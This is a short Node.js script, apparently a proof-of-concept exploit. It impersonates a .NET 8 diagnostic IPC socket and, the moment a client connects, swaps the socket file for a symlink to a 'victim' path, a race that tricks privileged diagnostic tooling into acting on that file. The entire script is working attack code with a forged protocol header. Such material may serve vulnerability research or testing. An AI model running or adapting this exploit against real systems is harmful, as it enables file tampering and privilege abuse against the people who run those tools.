// Answers as .NET 8 would, and in the same moment puts a link to <victim> into the place of its socket.
const fs = require('node:fs');
const net = require('node:net');
const path = require('node:path');

const [victim, tmp] = process.argv.slice(2);
const file = path.join(tmp, `dotnet-diagnostic-${process.pid}-1-socket`);
const text = (value) => {
  const length = Buffer.alloc(4);
  length.writeUInt32LE(value.length + 1);
  return Buffer.concat([length, Buffer.from(`${value}\0`, 'utf16le')]);
};
const content = Buffer.concat([Buffer.alloc(28), ...['app', 'Linux', 'x64', 'app', '8.0.0'].map(text)]);
const header = Buffer.from('DOTNET_IPC_V1\0\0\0\xff\0\0\0', 'latin1');
header.writeUInt16LE(header.length + content.length, 14);

net
  .createServer((socket) => {
    socket.once('data', () => {
      fs.renameSync(file, path.join(tmp, 'aside'));
      fs.symlinkSync(victim, file);
      socket.end(Buffer.concat([header, content]));
    });
  })
  .listen(file, () => console.log('ready'));
